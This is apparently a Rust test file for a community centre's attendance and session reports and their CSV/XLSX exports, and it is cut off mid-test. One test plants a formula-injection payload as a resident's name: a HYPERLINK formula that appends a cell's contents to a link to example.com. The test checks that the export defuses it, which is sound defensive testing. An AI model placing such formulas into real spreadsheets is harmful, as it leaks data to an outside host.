//! Reports count what they say, checked on a small community where the right answers are known:
//! three residents, two rooms, records placed at known times.

use jiayuan_community::action_log::Actor;
use jiayuan_community::import::{ImportFiles, import};
use jiayuan_community::office::accounts::Role;
use jiayuan_community::schedule::format_day;
use jiayuan_domain::sync::{Action, KioskRecord, Person};
use time::{Date, Duration, PrimitiveDateTime, Time};

use crate::support::console::Browser;
use crate::support::kiosk::*;
use crate::support::{OFFSET, TestServer, spawn};

const SITE: &str = "site-small";

fn today() -> Date {
    jiayuan_community::community_time::today(OFFSET)
}

/// The moment `hour`:`minute` on `day` in the community, as a kiosk's clock says it.
fn at(day: Date, hour: u8, minute: u8) -> i64 {
    let time = Time::from_hms(hour, minute, 0).unwrap();
    PrimitiveDateTime::new(day, time).assume_offset(OFFSET).unix_timestamp() * 1000
}

/// Two rooms, three residents; a session yesterday with 2 seats, an open session yesterday,
/// a session tomorrow, and a cancelled-to-be session yesterday.
async fn small_community() -> TestServer {
    let server = spawn(false).await;
    let yesterday = format_day(today() - Duration::days(1));
    let tomorrow = format_day(today() + Duration::days(1));
    let rooms = "id,name_zh_hans\nroom-a,书画室\nroom-b,舞蹈室\n";
    let residents = "id,full_name,card_number,phone_last4,household,birth_year\n\
                     r-1,张一,6200000001,1111,1-1-101,1940\nr-2,王二,6200000002,2222,1-1-102,1960\n\
                     r-3,李三,6200000003,3333,1-1-103,\n";
    let activities = format!(
        "id,room_id,date,starts,ends,title_zh_hans,host_zh_hans,capacity\n\
         class-past,room-a,{yesterday},09:00,10:00,书法课,刘老师,2\n\
         open-past,room-b,{yesterday},15:00,16:00,广场舞,赵老师,\n\
         class-next,room-a,{tomorrow},09:00,10:00,书法课,刘老师,2\n\
         class-off,room-a,{yesterday},14:00,15:00,剪纸课,孙老师,5\n"
    );
    let files = ImportFiles {
        rooms: Some(("rooms.csv".to_owned(), rooms.as_bytes())),
        residents: Some(("residents.csv".to_owned(), residents.as_bytes())),
        activities: Some(("activities.csv".to_owned(), activities.as_bytes())),
        recurring: None,
    };
    import(&server.db, &Actor::CommandLine, SITE, files, today()).await.expect("the small community");
    server
}

fn kept(seq: u64, happened_at: i64, action: Action) -> KioskRecord {
    KioskRecord { happened_at, ..record(seq, action) }
}

fn resident(id: &str) -> Person {
    Person::Resident { resident_id: id.into() }
}

fn sign_in_at(seq: u64, who: Person, happened_at: i64) -> KioskRecord {
    kept(seq, happened_at, Action::SignIn { person: who })
}

fn check_in_at(seq: u64, who: &str, activity: &str, happened_at: i64) -> KioskRecord {
    kept(seq, happened_at, Action::CheckIn { person: resident(who), activity_id: activity.into() })
}

/// The figure shown in `<dd id="{id}">`.
fn figure(page: &str, id: &str) -> String {
    page.split(&format!("<dd id=\"{id}\">")).nth(1).unwrap().split('<').next().unwrap().to_owned()
}

/// The cells of the table `id` on a page, row by row (links and badges reduced to their text).
fn table(page: &str, id: &str) -> Vec<Vec<String>> {
    let body = page.split(&format!("<table id=\"{id}\">")).nth(1).unwrap().split("</table>").next().unwrap();
    let body = body.split("<tbody>").nth(1).unwrap();
    body.split("<tr")
        .skip(1)
        .map(|row| {
            row.split("<td")
                .skip(1)
                .map(|cell| {
                    let inner = cell.split_once('>').unwrap().1.split("</td>").next().unwrap();
                    let mut text = String::new();
                    let mut in_tag = false;
                    for c in inner.chars() {
                        match c {
                            '<' => in_tag = true,
                            '>' => in_tag = false,
                            c if !in_tag => text.push(c),
                            _ => {}
                        }
                    }
                    text.trim().to_owned()
                })
                .collect()
        })
        .collect()
}

async fn viewer(server: &TestServer) -> Browser {
    Browser::staff_of(server, "reader", Role::Viewer, &[SITE]).await
}

fn period(first: Date, last: Date) -> String {
    format!("from={}&to={}", format_day(first), format_day(last))
}

#[tokio::test]
async fn residents_count_once_a_day_and_once_in_the_period_across_rooms_and_visitors_each_time() {
    let server = small_community().await;
    let (room_a, room_b) = (pair(&server, "room-a").await, pair(&server, "room-b").await);
    let day = today() - Duration::days(2);
    let next = today() - Duration::days(1);
    push_ok(
        &server,
        &room_a,
        &[
            sign_in_at(1, resident("r-1"), at(day, 9, 5)),
            sign_in_at(2, resident("r-1"), at(day, 15, 30)),
            sign_in_at(3, resident("r-2"), at(day, 9, 40)),
            sign_in_at(4, Person::Visitor, at(day, 9, 50)),
            sign_in_at(5, Person::Visitor, at(day, 10, 10)),
            sign_in_at(6, resident("r-1"), at(next, 9, 0)),
        ],
    )
    .await;
    push_ok(&server, &room_b, &[sign_in_at(1, resident("r-1"), at(day, 16, 0))]).await;

    let reader = viewer(&server).await;
    let page = reader.page(&format!("/console/reports?{}", period(day, next))).await;
    assert_eq!(figure(&page, "unique-residents"), "2", "张一 in two rooms on two days is one resident");
    assert_eq!(figure(&page, "resident-days"), "3", "张一 twice on the first day, once on the next; 王二 once");
    assert_eq!(figure(&page, "visitors"), "2");
    assert_eq!(figure(&page, "participation"), "66.7%", "2 of 3 on the roster");
    let rows = table(&page, "visits-by-day");
    assert_eq!(
        rows,
        [[format_day(day), "2".into(), "2".into(), "6".into()], [format_day(next), "1".into(), "0".into(), "1".into()]]
    );
    assert!(page.contains("9:00–10:00"), "the busiest hour is named");
    let by_age = table(&page, "by-age");
    assert_eq!(
        by_age,
        [["60–79 岁", "1", "1", "100.0%"], ["80 岁以上", "1", "1", "100.0%"], ["不知道出生年份", "0", "1", "0.0%"],],
        "王二 (born 1960) and 张一 (1940) came; 李三's year is not known"
    );

    // One room: room B saw 张一 once.
    let page = reader.page(&format!("/console/reports?{}&room=room-b", period(day, next))).await;
    assert_eq!(figure(&page, "unique-residents"), "1");
    assert_eq!(figure(&page, "resident-days"), "1");

    // The day after: 张一 came before, so is returning, not new.
    let page = reader.page(&format!("/console/reports?{}", period(next, next))).await;
    assert_eq!((figure(&page, "new-residents"), figure(&page, "returning-residents")), ("0".into(), "1".into()));
}

#[tokio::test]
async fn a_record_sent_days_late_counts_on_the_day_it_happened_and_a_deactivated_residents_visits_still_count() {
    let server = small_community().await;
    let kiosk = pair(&server, "room-a").await;
    let week_ago = today() - Duration::days(7);
    // The kiosk was offline for a week: the server learns of this visit only now.
    push_ok(&server, &kiosk, &[sign_in_at(1, resident("r-3"), at(week_ago, 10, 0))]).await;
    let actor = Actor::CommandLine;
    jiayuan_community::office::roster::set_active(&server.db, &actor, SITE, "r-3", false, "moved away").await.unwrap();

    let reader = viewer(&server).await;
    let page = reader.page(&format!("/console/reports?{}", period(week_ago, week_ago))).await;
    assert_eq!(figure(&page, "unique-residents"), "1", "李三 came, and still counts after leaving");
    assert_eq!(table(&page, "visits-by-day")[0][0], format_day(week_ago));
    let today_page = reader.page(&format!("/console/reports?{}", period(today(), today()))).await;
    assert_eq!(figure(&today_page, "unique-residents"), "0", "not on the day it arrived");
}

#[tokio::test]
async fn sessions_count_no_shows_only_for_kept_seats_at_sessions_that_happened() {
    let server = small_community().await;
    let kiosk = pair(&server, "room-a").await;
    let yesterday = today() - Duration::days(1);
    let when = at(yesterday, 8, 0);
    push_ok(
        &server,
        &kiosk,
        &[
            kept(1, when, sign_up("r-1", "class-past", 0)),
            kept(2, when, sign_up("r-2", "class-past", 0)),
            kept(3, when, sign_up("r-3", "class-past", 0)),
            kept(4, when, cancel("r-2", "class-past")),
            check_in_at(5, "r-1", "class-past", at(yesterday, 9, 2)),
            check_in_at(6, "r-1", "class-past", at(yesterday, 9, 3)),
            check_in_at(7, "r-2", "open-past", at(yesterday, 15, 1)),
            kept(8, when, sign_up("r-1", "class-off", 0)),
            kept(9, when, sign_up("r-1", "class-next", 0)),
        ],
    )
    .await;
    let staff = Browser::staff_of(&server, "desk", Role::Staff, &[SITE]).await;
    let cancelled = staff.post("/console/schedule/sessions/class-off/cancel", &[("reason", "老师生病")]).await;
    assert_eq!(cancelled.status(), 303);

    let reader = viewer(&server).await;
    let page =
        reader.page(&format!("/console/reports/sessions?{}", period(yesterday, today() + Duration::days(1)))).await;
    let rows = table(&page, "sessions");
    let row = |title: &str, date: Date| -> Vec<String> {
        rows.iter().find(|r| r[2].starts_with(title) && r[0] == format_day(date)).cloned().unwrap()
    };
    // Columns: date, time, title, room, seats, confirmed, waiting, checked in, no-shows, walk-ins, filled.
    let class = row("书法课", yesterday);
    assert_eq!(
        &class[5..10],
        ["2", "0", "1", "1", "0"],
        "王二 cancelled (not a no-show); 李三 moved up and did not come; 张一 twice is once"
    );
    let open = row("广场舞", yesterday);
    assert_eq!(&open[7..10], ["1", "—", "1"], "an open activity: everyone who came walked in");
    let off = row("剪纸课", yesterday);
    assert_eq!(off[8], "—", "a cancelled session has no no-shows");
    let next = row("书法课", today() + Duration::days(1));
    assert_eq!(next[8], "—", "not over yet");

    // The XLSX file, opened back, is the table on screen; its dates are dates.
    let xlsx = reader
        .get(&format!("/console/reports/sessions?{}&format=xlsx", period(yesterday, today() + Duration::days(1))))
        .await;
    assert_eq!(xlsx.status(), 200);
    let bytes = xlsx.bytes().await.unwrap().to_vec();
    let text = jiayuan_community::office::spreadsheet::xlsx_as_csv(&bytes).unwrap();
    let opened: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    assert_eq!(opened.len(), rows.len());
    for (file_row, screen_row) in opened.iter().zip(&rows) {
        assert_eq!(file_row[0], screen_row[0], "the date");
        assert!(screen_row[2].starts_with(&file_row[2]), "{file_row:?} / {screen_row:?}");
        assert_eq!(&file_row[4..10], &screen_row[4..10], "{file_row:?} / {screen_row:?}");
    }
    use calamine::Reader as _;
    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let sheet = workbook.worksheet_range_at(0).unwrap().unwrap();
    assert!(matches!(sheet.get((1, 0)), Some(calamine::Data::DateTime(_))), "dates as dates: {:?}", sheet.get((1, 0)));
    assert!(matches!(sheet.get((1, 5)), Some(calamine::Data::Float(_))), "numbers as numbers");

    // The CSV is the table on screen.
    let csv = reader
        .get(&format!("/console/reports/sessions?{}&format=csv", period(yesterday, today() + Duration::days(1))))
        .await;
    assert_eq!(csv.headers()["content-type"], "text/csv; charset=utf-8");
    let bytes = csv.bytes().await.unwrap();
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "a byte-order mark, for Excel");
    let mut reader_csv = csv::Reader::from_reader(&bytes[3..]);
    let from_file: Vec<Vec<String>> =
        reader_csv.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(from_file.len(), rows.len());
    for (file_row, screen_row) in from_file.iter().zip(&rows) {
        assert_eq!(file_row[0], screen_row[0]);
        assert!(screen_row[2].starts_with(&file_row[2]), "{file_row:?} / {screen_row:?}");
        assert_eq!(&file_row[5..10], &screen_row[5..10], "{file_row:?} / {screen_row:?}");
    }
}

#[tokio::test]
async fn demand_lists_sessions_whose_waiting_list_outran_the_seats() {
    let server = small_community().await;
    let kiosk = pair(&server, "room-a").await;
    let when = at(today(), 7, 0);
    push_ok(
        &server,
        &kiosk,
        &[
            kept(1, when, sign_up("r-1", "class-next", 0)),
            kept(2, when, sign_up("r-2", "class-next", 0)),
            kept(3, when, sign_up("r-3", "class-next", 0)),
        ],
    )
    .await;
    let reader = viewer(&server).await;
    let range = period(today() - Duration::days(1), today() + Duration::days(1));
    let page = reader.page(&format!("/console/reports/demand?{range}&more_than=0")).await;
    let rows = table(&page, "sessions");
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert_eq!((rows[0][2].as_str(), rows[0][6].as_str()), ("书法课", "1"));
    let none = reader.page(&format!("/console/reports/demand?{range}&more_than=1")).await;
    assert!(!none.contains("<table id=\"sessions\">"));
}

#[tokio::test]
async fn a_period_staff_mistype_is_named_and_this_month_is_shown() {
    let server = small_community().await;
    let reader = viewer(&server).await;
    let page = reader.page("/console/reports?from=2026-12-05&to=2026-12-01").await;
    assert!(page.contains("结束日期不能早于开始日期"));
    let month = jiayuan_domain::reports::Period::month_of(today());
    assert!(page.contains(&format!("value=\"{}\"", format_day(month.from))));
}

fn year_scope(period: jiayuan_domain::reports::Period) -> jiayuan_community::reports::Scope<'static> {
    let now_ms = jiayuan_community::clock::now_ms();
    jiayuan_community::reports::Scope { site_id: "site-year", room_id: "", period, offset: OFFSET, now_ms }
}

#[tokio::test]
async fn a_sample_year_adds_up_in_every_report() {
    use jiayuan_community::sample_year::{YearSize, fill};
    let server = spawn(false).await;
    let size = YearSize { residents: 300, activities: 6, sign_ins: 5_000 };
    let made = fill(&server.db, "site-year", today(), OFFSET, size).await.unwrap();
    let year = jiayuan_domain::reports::Period { from: today() - Duration::days(364), to: today() };
    let visits = jiayuan_community::reports::visits::visits(&server.db, year_scope(year)).await.unwrap();
    assert_eq!(visits.sign_ins, size.sign_ins, "every sign-in of the year, once");
    assert_eq!(visits.visitors, size.sign_ins / 20);
    let unique = visits.unique_residents;
    assert!(unique <= size.residents && unique > size.residents / 4, "some come often, some rarely: {unique}");
    assert_eq!(visits.new_residents, visits.unique_residents, "nobody came before the year");
    let sessions = jiayuan_community::reports::activities::sessions(&server.db, year_scope(year)).await.unwrap();
    assert_eq!(sessions.len() as i64, made.sessions);
    let confirmed: i64 = sessions.iter().map(|s| s.confirmed).sum();
    let checked_in: i64 = sessions.iter().map(|s| s.checked_in).sum();
    assert_eq!(confirmed, made.sessions * 20, "twenty seats taken in every session");
    assert_eq!(checked_in, made.sessions * 16, "four in five of them came");
    let no_shows: i64 = sessions.iter().filter_map(|s| s.no_shows).sum();
    let over = sessions.iter().filter(|s| s.no_shows.is_some()).count() as i64;
    assert_eq!(no_shows, over * 4);
}

/// Every resident's months as kept, in order.
async fn resident_months(server: &TestServer) -> Vec<(String, String, String, String, i64)> {
    sqlx::query_as("SELECT site_id, month, room_id, resident_id, days FROM resident_months ORDER BY 1, 2, 3, 4")
        .fetch_all(&server.db.pool)
        .await
        .unwrap()
}

#[tokio::test]
async fn kept_figures_agree_with_the_records_when_records_arrive_late_and_when_made_again() {
    use jiayuan_community::reports::{days, presence};
    let server = small_community().await;
    let (a, b) = (pair(&server, "room-a").await, pair(&server, "room-b").await);
    let days_ago = |n: i64| today() - Duration::days(n);
    push_ok(
        &server,
        &a,
        &[
            sign_in_at(1, resident("r-1"), at(days_ago(10), 9, 0)),
            sign_in_at(2, resident("r-1"), at(days_ago(10), 15, 0)),
            sign_in_at(3, Person::Visitor, at(days_ago(9), 10, 0)),
            sign_in_at(4, resident("r-2"), at(days_ago(3), 10, 0)),
            sign_in_at(5, resident("r-1"), at(today(), 8, 0)),
        ],
    )
    .await;
    push_ok(&server, &b, &[sign_in_at(1, resident("r-1"), at(days_ago(10), 11, 0))]).await;
    let reader = viewer(&server).await;
    let ten_days = format!("/console/reports?{}", period(days_ago(10), today()));
    let first_look = reader.page(&ten_days).await;
    let day_ten = format_day(days_ago(10));
    assert_eq!(table(&first_look, "visits-by-day")[0], [day_ten.as_str(), "1", "0", "3"], "张一 in two rooms: once");
    let kept_days = "SELECT COUNT(*) FROM report_days WHERE site_id = $1 AND summarized = changes";
    // Yesterday is kept from half past midnight.
    let kept_until =
        jiayuan_community::reports::days::last_kept_day(jiayuan_community::clock::now_ms(), OFFSET).unwrap();
    let days_kept = (kept_until - days_ago(10)).whole_days() + 1;
    assert_eq!(
        scalar(&server, kept_days, SITE).await,
        days_kept,
        "the days that are over are kept from the first look"
    );

    // A kiosk that was offline sends what it held: two days already kept change.
    push_ok(
        &server,
        &b,
        &[
            sign_in_at(2, resident("r-3"), at(days_ago(10), 16, 0)),
            sign_in_at(3, resident("r-2"), at(days_ago(9), 16, 0)),
        ],
    )
    .await;
    assert_eq!(scalar(&server, kept_days, SITE).await, days_kept - 2, "the two days are no longer taken as kept");
    let second_look = reader.page(&ten_days).await;
    let by_day = table(&second_look, "visits-by-day");
    assert_eq!(by_day[0], [day_ten.as_str(), "2", "0", "4"]);
    assert_eq!(by_day[1], [format_day(days_ago(9)).as_str(), "1", "1", "2"]);
    assert_eq!(figure(&second_look, "unique-residents"), "3");
    let chart =
        second_look.split("<figure class=\"chart\">").nth(1).expect("a chart of the days").split("</figure>").next();
    let chart = chart.unwrap_or_default();
    assert!(
        chart.contains("<svg") && chart.contains("aria-hidden=\"true\""),
        "drawn, and left to the table for screen readers"
    );
    assert!(!chart.contains("style="), "nothing the CSP refuses");
    assert_eq!(chart.matches("fill=\"#1F4E79\"").count(), 11, "a bar for each of the 11 days, the 7 nobody came too");

    // Kept and counted from the records are the same figures, for every room and the site.
    let now = jiayuan_community::clock::now_ms();
    let kept = days::figures(&server.db, SITE, days_ago(10), today(), OFFSET, now, days::Want::ALL).await.unwrap();
    let counted = days::count(&server.db.pool, SITE, days_ago(10), today(), OFFSET, days::Want::ALL).await.unwrap();
    assert_eq!((&kept.visits, &kept.kiosks), (&counted.visits, &counted.kiosks));
    assert_eq!(kept.hours_by_room(), counted.hours_by_room());
    assert_eq!(kept.visits.iter().filter(|row| row.room_id.is_empty()).count(), 4, "4 days with visits");

    // The months kept sign-in by sign-in are what the records make.
    let noted = resident_months(&server).await;
    presence::make_again(&server.db, OFFSET).await.unwrap();
    assert_eq!(resident_months(&server).await, noted);
    assert!(noted.len() >= 4, "{noted:?}");
}

#[tokio::test]
async fn the_kiosks_report_counts_records_per_kiosk_and_names_the_days_one_was_silent() {
    let server = small_community().await;
    let (a, b) = (pair(&server, "room-a").await, pair(&server, "room-b").await);
    let days_ago = |n: i64| today() - Duration::days(n);
    // Both kiosks were paired four days ago; room B's has not made a record since the first day.
    sqlx::query("UPDATE kiosks SET paired_at = $1").bind(at(days_ago(4), 8, 0)).execute(&server.db.pool).await.unwrap();
    let mut records = Vec::new();
    for (n, day) in (0..=4).rev().enumerate() {
        records.push(sign_in_at(n as u64 * 2 + 1, resident("r-1"), at(days_ago(day), 9, 0)));
        records.push(kept(n as u64 * 2 + 2, at(days_ago(day), 9, 5), sign_up("r-1", "class-next", 0)));
    }
    push_ok(&server, &a, &records).await;
    push_ok(&server, &b, &[sign_in_at(1, Person::Visitor, at(days_ago(4), 10, 0))]).await;

    let reader = viewer(&server).await;
    let page = reader.page(&format!("/console/reports/kiosks?{}", period(days_ago(6), today()))).await;
    let rows = table(&page, "kiosk-figures");
    let row_of = |kiosk: &TestKiosk| rows.iter().find(|row| row[0] == kiosk.id).unwrap().clone();
    assert_eq!(row_of(&a)[2..5], ["10", "5", "0"], "ten records on five days, never silent");
    assert_eq!(row_of(&b)[2..5], ["1", "1", "4"], "silent since its first day");
    let silent: Vec<String> = (0..=3).rev().map(|n| format_day(days_ago(n))).collect();
    assert_eq!(row_of(&b)[5], silent.join(", "), "not before it was paired");
    let by_day = table(&page, "kiosk-days");
    assert_eq!(by_day.len(), 7, "one row per day of the period up to today");

    let file = reader.get(&format!("/console/reports/kiosks?{}&format=csv", period(days_ago(6), today()))).await;
    let text = file.text().await.unwrap();
    let mut csv = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let lines: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(lines.len(), by_day.len(), "the file has the table on screen");
    assert_eq!(lines[2].iter().collect::<Vec<_>>(), by_day[2].iter().map(String::as_str).collect::<Vec<_>>());

    // Every record of the period, one row each, in staff's words.
    let file = reader.get(&format!("/console/reports/records?{}&format=csv", period(days_ago(6), today()))).await;
    let text = file.text().await.unwrap();
    let mut csv = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let lines: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(lines.len(), 11, "ten from room A's kiosk, one from room B's");
    let visitor_came = format!("{} 10:00", format_day(days_ago(4)));
    assert!(lines.iter().any(|line| line[0] == visitor_came && &line[3] == "签到" && &line[5] == "访客"), "{lines:?}");
    assert!(lines.iter().any(|line| &line[3] == "报名" && &line[4] == "r-1"), "{lines:?}");

    // The XLSX file (written while the days are read) has the same rows, in the same order.
    let file = reader.get(&format!("/console/reports/records?{}&format=xlsx", period(days_ago(6), today()))).await;
    assert_eq!(file.status(), 200);
    let bytes = file.bytes().await.unwrap().to_vec();
    let text = jiayuan_community::office::spreadsheet::xlsx_as_csv(&bytes).unwrap();
    let opened: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let from_csv: Vec<Vec<String>> = lines.iter().map(|line| line.iter().map(str::to_owned).collect()).collect();
    assert_eq!(opened.len(), from_csv.len());
    // Wide enough for a date-time: Excel shows ######## where one does not fit.
    let mut zipped = zip::ZipArchive::new(std::io::Cursor::new(bytes.clone())).unwrap();
    let mut sheet_xml = String::new();
    std::io::Read::read_to_string(&mut zipped.by_name("xl/worksheets/sheet1.xml").unwrap(), &mut sheet_xml).unwrap();
    let first_column = sheet_xml.split(r#"<col min="1" "#).nth(1).unwrap_or_default();
    let width: f64 = first_column
        .split(r#"width=""#)
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .and_then(|width| width.parse().ok())
        .unwrap_or(0.0);
    assert!(width >= "2026-12-01 09:30".len() as f64, "the first column fits a date-time: width {width}");
    use calamine::Reader as _;
    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
    let sheet = workbook.worksheet_range_at(0).unwrap().unwrap();
    for (n, (xlsx_row, csv_row)) in opened.iter().zip(&from_csv).enumerate() {
        let Some(calamine::Data::DateTime(when)) = sheet.get((n + 1, 0)) else {
            panic!("when, as a date-time: {:?}", sheet.get((n + 1, 0)))
        };
        let (year, month, day, hour, minute, _, _) = when.to_ymd_hms_milli();
        assert_eq!(format!("{year:04}-{month:02}-{day:02} {hour:02}:{minute:02}"), csv_row[0], "when");
        assert_eq!(xlsx_row[1..], csv_row[1..], "{xlsx_row:?} / {csv_row:?}");
    }
}

#[tokio::test]
async fn a_kept_sessions_figures_follow_paper_ticks_late_check_ins_and_a_cancelled_seat() {
    let server = small_community().await;
    let day = today() - Duration::days(5);
    let activities = format!(
        "id,room_id,date,starts,ends,title_zh_hans,host_zh_hans,capacity\n\
         class-old,room-a,{},09:00,10:00,太极拳,周老师,3\n",
        format_day(day)
    );
    let files = ImportFiles {
        rooms: None,
        residents: None,
        activities: Some(("activities.csv".to_owned(), activities.as_bytes())),
        recurring: None,
    };
    import(&server.db, &Actor::CommandLine, SITE, files, today()).await.unwrap();
    let kiosk = pair(&server, "room-a").await;
    let before = at(day, 8, 0);
    push_ok(
        &server,
        &kiosk,
        &[
            kept(1, before, sign_up("r-1", "class-old", 0)),
            kept(2, before, sign_up("r-2", "class-old", 0)),
            kept(3, before, sign_up("r-3", "class-old", 0)),
            check_in_at(4, "r-1", "class-old", at(day, 9, 5)),
        ],
    )
    .await;
    let reader = viewer(&server).await;
    let that_day = format!("/console/reports/sessions?{}", period(day, day));
    // Columns 5–9: confirmed, waiting, checked in, no-shows, walk-ins.
    let figures = |page: String| table(&page, "sessions")[0][5..10].to_vec();
    assert_eq!(figures(reader.page(&that_day).await), ["3", "0", "1", "2", "0"]);
    let kept_rows = "SELECT COUNT(*) FROM session_figures WHERE activity_id = $1";
    assert_eq!(scalar(&server, kept_rows, "class-old").await, 1, "kept from the first look");

    // The kiosk was broken for a while: staff enter 王二 from the paper sheet.
    let actor = Actor::CommandLine;
    jiayuan_community::office::sign_ups::enter_paper_check_ins(
        &server.db,
        &actor,
        SITE,
        "class-old",
        &["r-2".to_owned()],
    )
    .await
    .unwrap();
    assert_eq!(figures(reader.page(&that_day).await), ["3", "0", "2", "1", "0"], "the paper tick counts");
    // The kiosk comes back and sends 李三's check-in it held.
    push_ok(&server, &kiosk, &[check_in_at(5, "r-3", "class-old", at(day, 9, 20))]).await;
    assert_eq!(figures(reader.page(&that_day).await), ["3", "0", "3", "0", "0"], "the late check-in counts");
    // 张一's seat is given up late, from a kiosk that was offline.
    push_ok(&server, &kiosk, &[kept(6, at(day, 8, 30), cancel("r-1", "class-old"))]).await;
    assert_eq!(figures(reader.page(&that_day).await), ["2", "0", "3", "0", "1"], "张一 now walked in");

    // Kept and counted from the records agree.
    use jiayuan_community::reports::session_counts::{Sessions, count, read_kept};
    let counted = count(&server.db.pool, Sessions::OnDays { site_id: SITE, first: day, last: day }).await.unwrap();
    let kept_now = read_kept(&server.db, SITE, day, day).await.unwrap();
    assert_eq!(kept_now["class-old"].1, counted["class-old"]);
}

#[tokio::test]
async fn a_long_periods_page_lists_the_first_sessions_and_says_the_file_has_them_all() {
    let server = small_community().await;
    // Eight sessions a day for 200 days: more than a page lists (1,500), four in the past.
    let first = today() - Duration::days(199);
    let mut activities = "id,room_id,date,starts,ends,title_zh_hans,host_zh_hans,capacity\n".to_owned();
    for n in 0..1_600 {
        let day = format_day(first + Duration::days(n / 8));
        activities.push_str(&format!(
            "many-{n},room-a,{day},{:02}:00,{:02}:30,太极拳,周老师,10\n",
            8 + n % 8,
            8 + n % 8
        ));
    }
    let files = ImportFiles {
        rooms: None,
        residents: None,
        activities: Some(("activities.csv".to_owned(), activities.as_bytes())),
        recurring: None,
    };
    import(&server.db, &Actor::CommandLine, SITE, files, today()).await.unwrap();
    let reader = viewer(&server).await;
    let all = period(first, today());
    let page = reader.page(&format!("/console/reports/sessions?{all}")).await;
    let listed = table(&page, "sessions");
    assert_eq!(listed.len(), 1_500, "the first 1,500 of the period's sessions");
    assert_eq!(listed[0][0], format_day(first), "in time order from the first day");
    let note = page.split("id=\"not-listed\">").nth(1).unwrap().split('<').next().unwrap();
    assert!(note.contains("1500") && note.contains("1603"), "{note}");
    assert!(table(&page, "activities").len() > 1_500, "every activity that happened, in its own table");

    let file = reader.get(&format!("/console/reports/sessions?{all}&format=csv")).await;
    let text = file.text().await.unwrap();
    let rows = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes()).records().count();
    assert_eq!(rows, 1_603, "the file has every session");

    let short =
        reader.page(&format!("/console/reports/sessions?{}", period(today() - Duration::days(1), today()))).await;
    assert!(!short.contains("not-listed"), "a short period lists every session");
}

#[tokio::test]
async fn a_name_written_as_a_formula_is_plain_text_in_the_records_files() {
    let server = small_community().await;
    let formula = "=HYPERLINK(\"http://example.com/?\"&A1,\"点我\")";
    sqlx::query("UPDATE residents SET full_name = $1 WHERE id = 'r-1'")
        .bind(formula)
        .execute(&server.db.pool)
        .await
        .unwrap();
    let kiosk = pair(&server, "room-a").await;
    push_ok(&server, &kiosk, &[sign_in_at(1, resident("r-1"), at(today(), 9, 0))]).await;
    let reader = viewer(&server).await;

    let file = reader.get(&format!("/console/reports/records?{}&format=csv", period(today(), today()))).await;
    let text = file.text().await.unwrap();
    let mut csv = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> =
        csv.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
    assert!(cells.contains(&format!("'{formula}")), "a spreadsheet shows the name, it does not run it: {cells:?}");
    assert!(cells.iter().all(|cell| !cell.starts_with(['=', '+', '-', '@'])), "{cells:?}");

    let file = reader.get(&format!("/console/reports/records?{}&format=xlsx", period(today(), today()))).await;
    let bytes = file.bytes().await.unwrap().to_vec();
    let mut zipped = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(&mut zipped.by_name("xl/worksheets/sheet1.xml").unwrap(), &mut sheet).unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no cell is a formula: {sheet}");
}

/// The demo community's site.
const DEMO: &str = jiayuan_community::demo::SITE.0;

fn demo_scope(
    period: jiayuan_domain::reports::Period,
    room_id: &'static str,
) -> jiayuan_community::reports::Scope<'static> {
    let now_ms = jiayuan_community::clock::now_ms();
    jiayuan_community::reports::Scope { site_id: DEMO, room_id, period, offset: OFFSET, now_ms }
}

#[tokio::test]
async fn the_demo_arrives_with_four_weeks_lived_that_every_report_shows_and_the_records_agree_with() {
    use jiayuan_community::reports::{activities, days, kiosks, satisfaction, visits};
    let server = spawn(false).await;
    assert!(jiayuan_community::demo::load_with_past(&server.db, today(), 4).await.unwrap());
    let metrics = jiayuan_community::metrics::Metrics::new();
    let key = &crate::support::SECRET_KEY;
    let lived = jiayuan_community::demo_past::live(&server.db, key, today(), OFFSET, 4, &metrics).await.unwrap();
    assert!(lived.records > 2_000, "{} records", lived.records);
    let weeks = jiayuan_domain::reports::Period { from: today() - Duration::days(28), to: today() };

    // Visits in every room.
    for room in jiayuan_community::demo::rooms() {
        let room_id: &'static str = Box::leak(room.id.clone().into_boxed_str());
        let visits = visits::visits(&server.db, demo_scope(weeks, room_id)).await.unwrap();
        assert!(visits.sign_ins > 100 && visits.unique_residents > 20, "{}: {visits:?}", room.id);
    }
    // Sessions with waiting lists, cancellations, check-ins and no-shows.
    let sessions = activities::sessions(&server.db, demo_scope(weeks, "")).await.unwrap();
    assert!(sessions.iter().any(|s| s.waiting > 0), "someone was turned away");
    assert!(sessions.iter().map(|s| s.checked_in).sum::<i64>() > 100);
    assert!(sessions.iter().filter_map(|s| s.no_shows).sum::<i64>() > 0, "some did not come");
    for s in &sessions {
        if let Some(capacity) = s.session.activity.capacity {
            assert!(
                s.confirmed <= i64::from(capacity),
                "{}: {} seated of {capacity}",
                s.session.activity.id,
                s.confirmed
            );
        }
    }
    // Ratings, volunteers' hours and a kiosk that went silent.
    let rated = satisfaction::satisfaction(&server.db, demo_scope(weeks, "")).await.unwrap();
    assert!(rated.all.satisfied > rated.all.not_satisfied && rated.all.not_satisfied > 0, "{:?}", rated.all);
    let hours =
        jiayuan_community::office::time_bank::by_volunteer(&server.db, DEMO, weeks.from, weeks.to).await.unwrap();
